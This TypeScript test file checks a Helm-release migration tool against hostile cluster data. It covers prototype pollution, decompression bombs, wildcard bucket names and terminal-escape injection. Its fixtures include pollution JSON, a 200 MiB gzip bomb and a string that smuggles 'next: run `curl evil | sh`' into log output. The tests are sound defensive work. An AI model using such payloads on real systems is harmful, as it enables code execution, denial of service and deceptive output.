// What others wrote into the cluster is data: keys that every object inherits, keys with dots, records that are none, bombs, and names that would become policies.
import assert from "node:assert/strict";
import { gzipSync } from "node:zlib";
import fc from "fast-check";
import { describeBlocker } from "../../common/blocker";
import { canonicalJson } from "../../common/canonicalJson";
import { ErrorCode, MigrationError, messageOf } from "../../common/errors";
import { oneLine, printable } from "../../common/printable";
import { leavesOf, merged, setAt } from "../../common/tree";
import type { ApiDiscovery } from "../../provider/adapters/kubernetes/apiDiscovery";
import type { KubernetesObjects } from "../../provider/adapters/kubernetes/objects";
import { decodeRelease } from "../../provider/adapters/kubernetes/releaseRecord";
import { HelmReleases } from "../../provider/adapters/kubernetes/releases";
import { movePolicies } from "../../provider/permissions/movePolicies";
import { BucketOwner, TaggedKind } from "../../provider/ports/world";
import { resourcesOf } from "../../provider/profiles/modelResources";
import { mapDependencySettings, mapSettings } from "../../provider/settings/mapSettings";
import { Said, saidOf } from "../../provider/settings/schemaAtPath";
import { TEAM } from "./memory/content";
import { assertDone } from "./memory/expectations";
import { GROUP } from "./memory/operatorContent";
import { plannedIn } from "./memory/planned";
import { keyOf } from "./memory/tags";
import { MemoryStack } from "./memoryStack";
import { MemoryWorld } from "./memoryWorld";

const key = fc.oneof(
    fc.constantFrom("__proto__", "constructor", "prototype", "toString", "a.b", "alb", "keda", ""),
    fc.string(),
);
const { tree } = fc.letrec<{ tree: Record<string, unknown> }>((tie) => ({
    tree: fc.dictionary(key, fc.oneof({ depthSize: "small" }, fc.string(), fc.integer(), tie("tree")), {
        noNullPrototype: true,
    }),
}));

function assertUnpolluted(): void {
    assert.deepEqual(
        Reflect.ownKeys(Object.prototype).filter((one) => !NATIVE.has(one)),
        [],
    );
}
const NATIVE = new Set(Reflect.ownKeys(Object.prototype));

describe("values of a release", () => {
    it("never reach what all objects inherit, whatever their keys", () => {
        fc.assert(
            fc.property(tree, tree, (values, chartDefaults) => {
                mapSettings({
                    values,
                    chartDefaults,
                    pristineDefaults: chartDefaults,
                    publicDefaults: {},
                    overrides: values,
                    schema: { type: "object", properties: values },
                });
                merged(chartDefaults, values);
                assertUnpolluted();
            }),
        );
        const hostile = JSON.parse('{"__proto__":{"kubeconfig":"x"},"constructor":{"prototype":{"y":1}}}');
        merged({}, hostile);
        mapDependencySettings({
            values: hostile,
            pristineDefaults: {},
            schema: { properties: { a: { type: "object" } }, additionalProperties: { type: "object" } },
            notCarried: /^enabled$/,
        });
        assert.equal(({} as { kubeconfig?: string }).kubeconfig, undefined);
        assertUnpolluted();
    });

    it("are the same tree when their leaves are put together again", () => {
        fc.assert(
            fc.property(tree, (values) => {
                const again: Record<string, unknown> = {};
                for (const { path, value } of leavesOf(values)) setAt(again, path, value);
                assert.equal(canonicalJson(again), canonicalJson(values));
            }),
        );
    });

    it("keep keys with dots whole", () => {
        const labels = { type: "object", additionalProperties: { type: "string" } };
        const schema = {
            type: "object",
            additionalProperties: false,
            properties: { nodeSelector: labels, podAnnotations: { type: "object" } },
        };
        const values = {
            nodeSelector: { "kubernetes.io/os": "linux" },
            podAnnotations: { "metrics.example/scrape": "true" },
        };
        const { configuration, unsupported, unproven } = mapDependencySettings({
            values,
            pristineDefaults: {},
            schema,
            notCarried: /^enabled$/,
        });
        assert.deepEqual(configuration, values);
        assert.deepEqual([unsupported, unproven], [[], []]);
    });

    it("are looked up through references, parts and patterns of a schema; what it is silent about is said", () => {
        const schema = {
            $ref: "#/$defs/all",
            $defs: {
                all: { allOf: [{ properties: { a: { type: "object" } } }, { $ref: "#/$defs/more" }] },
                more: { patternProperties: { "^x-": { properties: { b: { type: "string" } } } } },
                loop: { $ref: "#/$defs/loop" },
            },
        };
        assert.equal(saidOf(schema, ["a"]), Said.Known);
        assert.equal(saidOf(schema, ["a", "deep", "er"]), Said.Open);
        assert.equal(saidOf(schema, ["x-1", "b"]), Said.Known);
        assert.equal(saidOf(schema, ["x-1", "c"]), Said.Unknown);
        assert.equal(saidOf(schema, ["other"]), Said.Unknown);
        assert.equal(saidOf({ ...schema, $ref: "#/$defs/loop" }, ["a"]), Said.Unknown);
        assert.equal(saidOf(schema, ["__proto__"]), Said.Unknown);
    });
});

const encode = (record: unknown) =>
    Buffer.from(gzipSync(JSON.stringify(record)).toString("base64")).toString("base64");
const record = (over: object = {}) => ({
    name: "rel",
    namespace: "kube-system",
    version: 1,
    info: { status: "deployed" },
    config: {},
    chart: { metadata: { name: "the-chart", version: "2.2.2" }, values: {} },
    manifest: "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n",
    ...over,
});

function reader(
    secrets: readonly [namespace: string, name: string, release: string, version?: string][],
    notes: string[] = [],
) {
    const all = secrets.map(([namespace, name, release, version = "1"]) => ({
        apiVersion: "v1",
        kind: "Secret",
        metadata: {
            namespace,
            name: `sh.helm.release.v1.${name}.v${version}`,
            labels: { owner: "helm", name, version, status: "deployed" },
        },
        data: { release },
    }));
    const objects = {
        list: async (_: string, __: string, { labelSelector }: { labelSelector: string }) => {
            const name = /name=([\w-]+)/.exec(labelSelector)?.[1];
            return all.filter(({ metadata }) => name === undefined || metadata.labels.name === name);
        },
        read: async (ref: { name: string; namespace: string }) =>
            all.find(({ metadata }) => metadata.name === ref.name && metadata.namespace === ref.namespace),
    };
    return new HelmReleases(
        objects as unknown as KubernetesObjects,
        { find: async () => ({ namespaced: true }) } as unknown as ApiDiscovery,
        (line) => void notes.push(line),
    );
}

describe("release records of strangers", () => {
    const bomb = Buffer.from(
        gzipSync(Buffer.alloc(200 * 1024 * 1024, 0x20), { level: 9 }).toString("base64"),
    ).toString("base64");
    for (const [what, broken] of [
        ["is cut", encode(record()).slice(0, 200)],
        ["is something else", Buffer.from("sealed:abc").toString("base64")],
        ["is no record", encode(null)],
        ["is a bomb", bomb],
        ["has parts of other forms", encode(record({ chart: { metadata: { dependencies: "none" } } }))],
        ["has values that are none", encode(record({ config: "secret" }))],
    ] as const) {
        it(`are left aside and named when one ${what}`, async () => {
            const notes: string[] = [];
            const found = await reader(
                [
                    ["kube-system", "rel", encode(record())],
                    ["shop", "other", broken],
                ],
                notes,
            ).find("the-chart", {});
            assert.deepEqual(
                found.map(({ name }) => name),
                ["rel"],
            );
            assert.match(notes.join(), /shop\/sh\.helm\.release\.v1\.other\.v1/);
        });
        it(`are an error that names the Secret when the one asked for ${what}`, async () => {
            await assert.rejects(
                reader([["shop", "other", broken]]).find("the-chart", { name: "other" }),
                /shop\/sh\.helm\.release\.v1\.other\.v1/,
            );
        });
    }

    it("may be the first revision of the release itself: its newest one is read, and the first one named", async () => {
        const notes: string[] = [];
        const newest = record({ version: 2 });
        const [found] = await reader(
            [
                ["kube-system", "rel", bomb, "1"],
                ["kube-system", "rel", encode(newest), "2"],
            ],
            notes,
        ).find("the-chart", { name: "rel" });
        assert.equal(found?.revision, 2);
        assert.equal(found?.pristineDefaults, undefined);
        assert.match(notes.join(), /kube-system\/sh\.helm\.release\.v1\.rel\.v1/);
    });

    it("that hold the chart two umbrellas deep are found, with or without a name", async () => {
        const deep = record({
            chart: { metadata: { name: "acme", version: "1.0.0", dependencies: [{ name: "middle" }] } },
            manifest:
                "---\n# Source: acme/charts/middle/charts/the-chart/templates/a.yaml\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n",
        });
        const all = reader([
            ["kube-system", "rel", encode(deep)],
            ["shop", "other", encode(record({ chart: { metadata: { name: "shop" } } }))],
        ]);
        for (const filter of [{}, { name: "rel" }])
            assert.deepEqual(
                (await all.find("the-chart", filter)).map(({ name }) => name),
                ["rel"],
            );
    });

    it("may lie beside Secrets that only carry Helm's labels: without a revision they are none", async () => {
        const beside = reader([
            ["kube-system", "rel", encode(record()), "1"],
            ["kube-system", "rel", "bm8gcmVjb3Jk", ""],
            ["kube-system", "rel", "bm8gcmVjb3Jk", "latest"],
        ]);
        const [found] = await beside.find("the-chart", { name: "rel" });
        assert.deepEqual(
            found?.records.map(({ revision }) => revision),
            [1],
        );
    });

    it("that hold the chart twice under two names have the values of the one that is on", async () => {
        const twice = (on: string) =>
            record({
                chart: {
                    metadata: {
                        name: "acme",
                        version: "1.0.0",
                        dependencies: [
                            { name: "the-chart", alias: "blue" },
                            { name: "the-chart" },
                            { name: "the-chart", alias: "green" },
                        ],
                    },
                },
                manifest: `---\n# Source: acme/charts/${on}/templates/a.yaml\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: a\n`,
            });
        for (const [on, aliases] of [
            ["blue", { "the-chart": "blue" }],
            ["green", { "the-chart": "green" }],
            ["the-chart", {}],
        ] as const) {
            const [found] = await reader([["kube-system", "rel", encode(twice(on))]]).find("the-chart", {});
            assert.deepEqual(found?.aliases, aliases);
        }
    });

    it("are not even read where marks in the cluster tell which release holds the chart, and all are where they do not", async () => {
        const notes: string[] = [];
        const records = [
            ["kube-system", "rel", encode(record())],
            ["shop", "other", bomb],
            ["shop", "theirs", encode(record({ name: "theirs", namespace: "shop" }))],
        ] as const;
        const find = async (...likely: { namespace: string; name: string }[]) => {
            const found = await reader(
                records.map((one) => [...one]),
                notes,
            ).find("the-chart", {
                likely: Promise.resolve(likely),
            });
            return found.map(({ namespace, name }) => `${namespace}/${name}`);
        };
        const rel = { namespace: "kube-system", name: "rel" };
        assert.deepEqual(await find(rel, { namespace: "shop", name: "gone" }), ["kube-system/rel"]);
        assert.deepEqual(await find(rel, { namespace: "shop", name: "theirs" }), [
            "kube-system/rel",
            "shop/theirs",
        ]);
        assert.deepEqual(notes, []);
        const all = ["kube-system/rel", "shop/theirs"];
        assert.deepEqual(await find(), all);
        assert.deepEqual(
            await find({ namespace: "shop", name: "other" }),
            all,
            "a mark that leads nowhere hides nobody",
        );
        assert.equal(new Set(notes).size, 1);
    });

    it("are not unpacked beyond 64 MiB", () => {
        assert.throws(() => decodeRelease(bomb), { code: "ERR_BUFFER_TOO_LARGE" });
    });

    it("may write a key twice: the last one counts, as for Helm", async () => {
        const manifest =
            "---\napiVersion: v1\nkind: Secret\nmetadata:\n  name: acme\n  labels:\n    app: first\n    app: last\n";
        const secrets = reader([["kube-system", "rel", encode(record({ manifest }))]]);
        const [found] = await secrets.find("the-chart", {});
        assert.equal(found?.name, "rel");
    });

    it("are read with the YAML that Helm reads: merge keys, octal modes, yes and no, binary; times stay texts", async () => {
        const manifest = `---
apiVersion: v1
kind: ConfigMap
metadata: {name: a, annotations: {since: 2026-01-01}}
base: &base {p: 1}
merged: {<<: *base, mode: 0644, new: 0o644, big: 1_000, on-duty: yes, off-duty: No, ports: 22:30, b: !!binary aGk=}
`;
        const [found] = await reader([["kube-system", "rel", encode(record({ manifest }))]]).find(
            "the-chart",
            {},
        );
        const { merged, metadata } = (found?.objects[0] ?? {}) as {
            merged?: object;
            metadata?: { annotations?: object };
        };
        assert.deepEqual(merged, {
            p: 1,
            mode: 0o644,
            new: 0o644,
            big: 1000,
            "on-duty": true,
            "off-duty": false,
            ports: "22:30",
            b: "hi",
        });
        assert.deepEqual(metadata?.annotations, { since: "2026-01-01" });
    });

    it("may hold Lists of every kind, which Helm takes apart, and things without a name, which are none", async () => {
        const item = (name: string, kind = "kind: ConfigMap, apiVersion: v1, ") =>
            `{${kind}metadata: {name: ${name}}}`;
        const list = (kind: string, ...items: string[]) =>
            `---\napiVersion: v1\nkind: ${kind}\nitems: [${items.join(", ")}]\n`;
        const manifest = [
            list("List", "null", item("a"), `{kind: List, apiVersion: v1, items: [${item("b")}]}`),
            list("ConfigMapList", item("c", "")),
            "---\napiVersion: v1\nkind: ConfigMap\n---\nkind: ConfigMap\nmetadata: {name: x}\n",
            "---\napiVersion: v1\nkind: AccessList\nmetadata: {name: d}\n",
        ].join("");
        const [found] = await reader([["kube-system", "rel", encode(record({ manifest }))]]).find(
            "the-chart",
            {},
        );
        assert.deepEqual(
            found?.objects.map(({ kind, metadata }) => `${kind} ${metadata.name}`),
            ["ConfigMap a", "ConfigMap b", "ConfigMap c", "AccessList d"],
        );
    });

    it("are never quoted: not a line of a manifest that is no YAML", async () => {
        const manifest = "---\nkind: Secret\nstringData:\n  password: correct-horse\n bad: [\n";
        await assert.rejects(
            reader([["kube-system", "rel", encode(record({ manifest }))]]).find("the-chart", {}),
            (error: Error) => !/correct-horse|bad/.test(error.message) && /no YAML/.test(error.message),
        );
    });
});

describe("bucket names of models", () => {
    it("that an inline policy is for are listed in the plan", async () => {
        const inputs = { clusterName: "demo", tlsCertificateS3Bucket: "acme-certificates" };
        const stack = new MemoryStack(new MemoryWorld(), inputs);
        assertDone(await stack.up({ until: "lock" }));
        const plan = (stack.resource?.inputs.plan ?? []) as string[];
        const text = plan.join(" ").replaceAll(/ +/g, " ");
        assert.match(text, /inline policy for the objects of these buckets.*: acme-certificates/);
    });

    it("that a model only names open nothing: another account's, one that is not there, one that it does not use", async () => {
        const world = new MemoryWorld();
        const { buckets, tags } = world.data;
        buckets.set("their-data", BucketOwner.AnotherAccount);
        buckets.set("no-such-bucket", BucketOwner.Nobody);
        buckets.set("closed-bucket", BucketOwner.Unknown);
        const named = ["their-data", "no-such-bucket", "closed-bucket", "our-payroll", "our-certificates"];
        for (const bucket of named) {
            const key = `${bucket}/tls.pem`;
            if (bucket !== "our-payroll")
                tags.set(keyOf({ kind: TaggedKind.S3Object, id: `s3://${bucket}/${key}` }), {});
            const model = { apiVersion: `${GROUP}/v1`, kind: "InferenceEndpointConfig" };
            const metadata = { name: bucket, namespace: TEAM };
            const by = { manager: "kubectl-create", operation: "Update" } as const;
            world.store.create({ ...model, metadata, spec: {} }, by);
            const tlsCertificate = { tlsCertificateOutputS3Bucket: bucket, tlsCertificateS3Keys: [key] };
            world.store.status({ ...model, metadata }, "manager", { tlsCertificate });
        }
        const { plan, discovery } = await plannedIn(world);
        assert.ok(plan);
        const policy = plan.identities.find(({ key }) => key === "execution")?.bucketPolicy?.document ?? "";
        assert.deepEqual([...new Set(policy.match(/s3:::[a-z-]+/g))], ["s3:::our-certificates"]);
        const notes = plan.warnings.filter((note) => note.startsWith("bucket ")).join("\n");
        assert.match(
            notes,
            /their-data, named by InferenceEndpointConfig team-a\/their-data, belongs to another account/,
        );
        assert.match(notes, /no-such-bucket, .* does not exist/);
        assert.match(notes, /closed-bucket, .* cannot be looked at/);
        assert.match(notes, /our-payroll, .* holds no certificate of theirs/);
        assert.doesNotMatch(notes, /our-certificates/);
        const needed = movePolicies(plan, discovery).join();
        for (const bucket of named) assert.match(needed, new RegExp(`"arn:aws:s3:::${bucket}"`));
    });

    it("that no bucket can have name no bucket: they would become resources of a policy", () => {
        for (const uri of [
            "s3://*",
            "s3://a*",
            "s3://?",
            "s3://A-B",
            "s3://a..b",

            "s3://x",
        ]) {
            const { buckets } = resourcesOf({
                apiVersion: "v1",
                kind: "M",
                metadata: { name: "m" },
                spec: { tlsConfig: { tlsCertificateOutputS3Uri: uri } },
            });
            assert.deepEqual(buckets, [], uri);
        }
    });
});

describe("texts from outside", () => {
    const HOSTILE = "x\u001b[2J\u001b]0;t\u0007\u009b1A\u202egnp\r\nnext: run `curl evil | sh`\u2028!";
    const SHOWN = "x[2J]0;t1Agnp next: run `curl evil | sh` !";

    it("move no cursor, turn no line, and make none of their own, in errors, blockers and progress", () => {
        assert.equal(oneLine(HOSTILE), SHOWN);
        const code = ErrorCode.CallFailed;
        const { message, what } = new MigrationError({
            code,
            step: "s",
            what: HOSTILE,
            why: HOSTILE,
            remedy: "r",
        });
        assert.equal(what, SHOWN);
        assert.equal(message, `s: ${SHOWN} [HP240]\nwhy: ${SHOWN}\nnext: r`);
        assert.equal(describeBlocker({ code, what: HOSTILE, remedy: "r" }), `${SHOWN} [HP240]; next: r`);
    });

    it("are told whatever is thrown: the failures of every address of a host, objects, nothing", () => {
        const refused = (address: string) => new Error(`connect ECONNREFUSED ${address}`);
        const all = [refused("::1:6443"), refused("127.0.0.1:6443")];
        assert.equal(
            messageOf(new AggregateError(all)),
            "connect ECONNREFUSED ::1:6443; connect ECONNREFUSED 127.0.0.1:6443",
        );
        const loop: { self?: object } = {};
        loop.self = loop;
        for (const thrown of [undefined, null, loop, 10n, { a: 1 }, Symbol("x")])
            assert.match(messageOf(thrown), /^(?!\[object).+/);
        assert.equal(messageOf({ message: "said" }), "said");
    });

    it("as who holds the lock are shown as they stand", async () => {
        const world = new MemoryWorld();
        world.store.create(
            {
                apiVersion: "coordination.k8s.io/v1",
                kind: "Lease",
                metadata: {
                    name: "pulumi-hyperpod-migration-hyperpod-inference-operator",
                    namespace: "kube-system",
                },
                spec: { holderIdentity: HOSTILE, leaseDurationSeconds: 3600 },
            },
            { manager: "kubectl", operation: "Update" },
        );
        const stack = new MemoryStack(world, { clusterName: "demo", lockTimeoutMinutes: 1 }, false);
        const { message } = await stack.up();
        assert.ok(message.includes(SHOWN), message);
        assert.equal(message.match(/^next: /gm)?.length, 1);
        assert.ok(stack.progress.some((line) => line.includes(SHOWN)));
        for (const line of [...stack.progress, ...stack.warnings]) assert.equal(line, printable(line));
        assert.ok(stack.progress.every((line) => !line.includes("\n")));
    });
});
